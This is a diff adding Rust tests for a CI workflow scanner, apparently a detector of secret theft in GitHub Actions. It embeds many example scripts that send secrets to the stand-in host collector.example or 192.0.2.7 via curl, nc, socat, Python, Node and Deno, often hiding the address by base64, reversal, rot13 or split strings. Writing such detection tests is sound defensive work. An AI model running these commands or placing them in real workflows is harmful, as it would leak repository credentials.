@@ -1,0 +1,186 @@
+//! Addresses that nobody can read in the file, connections without a protocol, and values that no mask knows.
+
+#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]
+
+mod ways;
+
+use portcullis_scan::report::Verdict;
+use ways::{Way, Whole, at_most_exposed, found, found_in, workflow_at_most_exposed};
+
+fn job(secret: &str, script: &str) -> String {
+    let mut text = format!(
+        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - env: {{S: '${{{{ secrets.{secret} }}}}'}}\n        run: |\n"
+    );
+    for line in script.lines() {
+        text.push_str(&format!("          {line}\n"));
+    }
+    text
+}
+
+#[track_caller]
+fn stolen(secret: &'static str, script: &str, place: &'static str) {
+    let workflow: &'static str = Box::leak(job(secret, script).into_boxed_str());
+    let secrets: &'static [&'static str] = Box::leak(vec![secret].into_boxed_slice());
+    found_in(&Whole { name: "", workflow, secrets, place, verdict: Verdict::Malicious });
+}
+
+#[track_caller]
+fn no_theft(secret: &str, script: &str) {
+    workflow_at_most_exposed(script, &job(secret, script));
+}
+
+/// One secret whose name says nothing, to a host that stands in the file only encoded, reversed or in pieces.
+#[test]
+fn a_hidden_address_is_hiding() {
+    for script in [
+        "u=$(echo aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS94 | base64 -d)\ncurl -d \"$S\" \"$u\"",
+        "curl -d \"$S\" \"https://$(echo elpmaxe.rotcelloc | rev)/\"",
+        "u=$(echo 'uggcf://pbyyrpgbe.rknzcyr/' | tr 'a-z' 'n-za-m'); curl -d \"$S\" $u",
+        "python3 -c \"import os,urllib.request as u; h=''.join(chr(c) for c in [99,111,108,108,101,99,116,111,114,46,101,120,97,109,112,108,101]); u.urlopen('https://'+h+'/', os.environ['S'].encode())\"",
+        "node -e \"fetch('https://' + atob('Y29sbGVjdG9yLmV4YW1wbGU='), {method: 'POST', body: process.env.S})\"",
+    ] {
+        stolen("THING", script, "collector.example");
+    }
+    // Near miss: an address from readable parts.
+    no_theft("THING", "H=api.widgets.example; curl -H \"Authorization: Bearer $S\" \"https://$H/deploy\"");
+}
+
+#[test]
+fn a_host_in_the_pieces_of_a_list() {
+    for script in [
+        "python3 - <<'P'\nimport os, urllib.request as u\nparts = ['in', 'collector', 'example']\nhost = '.'.join(parts)\nu.urlopen('https://' + host, os.environ['S'].encode())\nP",
+        "node -e \"const p = ['in', 'collector', 'example']; fetch('https://' + p.join('.'), {method: 'POST', body: process.env.S})\"",
+    ] {
+        stolen("THING", script, "in.collector.example");
+    }
+}
+
+/// Each connection takes the secret and nothing else.
+#[test]
+fn a_bare_connection_is_no_login() {
+    for script in [
+        "echo \"$S\" | nc -w 3 collector.example 4444",
+        "echo \"$S\" | socat - OPENSSL:collector.example:443,verify=0",
+        "printf 'GET /%s HTTP/1.0\\r\\n\\r\\n' \"$S\" | openssl s_client -quiet -connect collector.example:443",
+        "python3 -c \"import os,socket; s=socket.create_connection(('collector.example',443)); s.sendall(os.environ['S'].encode())\"",
+    ] {
+        let workflow: &'static str = Box::leak(job("THING", script).into_boxed_str());
+        found_in(&Whole {
+            name: script,
+            workflow,
+            secrets: &["THING"],
+            place: "",
+            verdict: Verdict::Malicious,
+        });
+    }
+    // Near miss: a line of a protocol, as chat servers and caches take it.
+    let text = job("THING", "printf 'PASS %s\\nNICK bot\\n' \"$S\" | nc irc.widgets.example 6667");
+    let analysis = portcullis_scan::analysis::analyse(
+        ".github/workflows/w.yml",
+        text.as_bytes(),
+        &portcullis_scan::flow::NoFiles,
+        None,
+    );
+    let verdicts = analysis.seen.iter().map(|seen| portcullis_scan::verdict::weigh(seen.rule, &seen.signals));
+    assert!(verdicts.max() < Some(Verdict::Malicious), "{:#?}", analysis.seen);
+}
+
+/// The mask knows a secret as a whole; what stands inside of it is printed as it is.
+#[test]
+fn fields_of_a_secret_that_is_json() {
+    let alone = |script: &str| job("GCP_SA", script).replace("      - run: make\n", "");
+    for script in [
+        "echo \"$S\" | jq -r .private_key",
+        "jq -r '.[\"private_key\"]' <<< \"$S\"",
+        "python3 -c \"import os,json; print(json.loads(os.environ['S'])['private_key'])\"",
+        "node -e \"console.log(JSON.parse(process.env.S).private_key)\"",
+    ] {
+        let workflow: &'static str = Box::leak(alone(script).into_boxed_str());
+        found_in(&Whole {
+            name: script,
+            workflow,
+            secrets: &["GCP_SA"],
+            place: "workflow-log",
+            verdict: Verdict::Malicious,
+        });
+    }
+    for script in [
+        "echo \"$S\" | jq -r .project_id",
+        "echo \"::add-mask::$(echo \"$S\" | jq -r .private_key)\"",
+        "python3 -c \"import os,json; print(json.loads(os.environ['S'])['project_id'])\"",
+        "node -e \"console.log(JSON.parse(process.env.S).project_id)\"",
+    ] {
+        workflow_at_most_exposed(script, &alone(script));
+    }
+}
+
+/// A machine that nothing of the repository's own opens is somebody else's.
+#[test]
+fn a_machine_without_a_key() {
+    found(&Way {
+        name: "scp by a password in the file",
+        shell: "bash",
+        script: "echo \"$A$B\" > x; sshpass -p guest scp x drop@192.0.2.7:/in/",
+        later: "",
+        secrets: ways::BOTH,
+        place: "192.0.2.7",
+        verdict: Verdict::Malicious,
+    });
+    let deploys = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: |\n          echo \"${{ secrets.VPS }}\" > key\n          echo \"DB_PASSWORD=${{ secrets.DB_PASSWORD }}\" > .env\n          scp -i key .env deploy@192.0.2.7:/srv/\n";
+    workflow_at_most_exposed("a deployment", deploys);
+}
+
+/// A credential that a registry gives for the job's identity is nobody's to send on.
+#[test]
+fn a_minted_token_is_sent_on() {
+    const MINTED: &str = "on: push\npermissions: {id-token: write}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          o=$(curl -sH \"Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN\" \"$ACTIONS_ID_TOKEN_REQUEST_URL&audience=pypi\" | jq -r .value)\n          t=$(curl -s -X POST https://pypi.org/_/oidc/mint-token -d \"{\\\"token\\\": \\\"$o\\\"}\" | jq -r .token)\n";
+    let theft = format!("{MINTED}          curl -s -d \"$t\" https://collector.example/\n");
+    found_in(&Whole {
+        name: "minted",
+        workflow: Box::leak(theft.into_boxed_str()),
+        secrets: &["ACTIONS_ID_TOKEN_REQUEST_TOKEN"],
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    });
+    let publishes = format!("{MINTED}          TWINE_PASSWORD=$t twine upload dist/*\n");
+    workflow_at_most_exposed("an upload", &publishes);
+}
+
+#[test]
+fn a_package_that_holds_secrets() {
+    found(&Way {
+        name: "npm publish",
+        shell: "bash",
+        script: "mkdir p; cd p; npm init -y\necho \"$A $B\" | base64 > index.js\nnpm publish --access public",
+        later: "",
+        secrets: ways::BOTH,
+        place: "registry.npmjs.org",
+        verdict: Verdict::Malicious,
+    });
+    at_most_exposed(
+        "a login beside the package",
+        "bash",
+        "echo \"//registry.npmjs.org/:_authToken=$B\" > .npmrc\nnpm publish",
+    );
+}
+
+#[test]
+fn words_of_an_array_and_other_runtimes() {
+    for (name, script) in [
+        ("IFS", "parts=(https: '' collector.example in); IFS=/; u=\"${parts[*]}\"; curl -d \"$A$B\" \"$u\""),
+        (
+            "deno run",
+            "cat > a.ts <<'T'\nconst u = new URL('/d', 'https://collector.example');\nu.searchParams.set('k', Deno.env.get('A') + Deno.env.get('B'));\nawait fetch(u);\nT\ndeno run -A a.ts",
+        ),
+    ] {
+        found(&Way {
+            name,
+            shell: "bash",
+            script,
+            later: "",
+            secrets: ways::BOTH,
+            place: "collector.example",
+            verdict: Verdict::Malicious,
+        });
+    }
+}
